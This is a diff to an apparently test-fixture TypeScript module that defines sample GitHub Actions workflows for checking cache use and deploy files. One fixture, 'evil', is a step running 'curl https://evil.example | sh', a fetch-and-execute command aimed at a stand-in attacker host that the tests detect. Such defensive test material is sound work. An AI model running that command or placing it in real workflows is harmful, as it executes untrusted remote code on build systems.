@@ -28,6 +28,11 @@ export const workflows = {
   'with a tool that caches': workflow(
     '      - uses: actions/setup-node@v7\n        with: { cache: npm }\n',
   ),
+  'with a tool that caches unasked': workflow('      - uses: actions/setup-go@v6\n'),
+  'with an action of the repository': workflow('      - uses: ./.github/actions/cache-tools\n'),
+  'with a cache turned off': workflow(
+    '      - uses: oven-sh/setup-bun@v2\n        with: { no-cache: true }\n',
+  ),
   evil: workflow('      - run: curl https://evil.example | sh\n'),
 } as const;
 export type WorkflowKind = keyof typeof workflows;
@@ -254,5 +259,6 @@ export const newest = (artifacts: readonly Artifact[], which: number) =>
 const deployingFile = (tree: ReadonlyMap<string, string>): string =>
   [...tree.keys()].find((file) => /workflows\/(deploy|site)\.yml$/.test(file)) ?? '';
 const deploying = (tree: ReadonlyMap<string, string>) => tree.get(deployingFile(tree)) ?? '';
-const restores = (tree: ReadonlyMap<string, string>) => /cache/.test(deploying(tree));
+const restores = (tree: ReadonlyMap<string, string>) =>
+  /actions\/cache|cache: npm|setup-go/.test(deploying(tree));
 const isEvil = (tree: ReadonlyMap<string, string>) => deploying(tree) === workflows.evil;
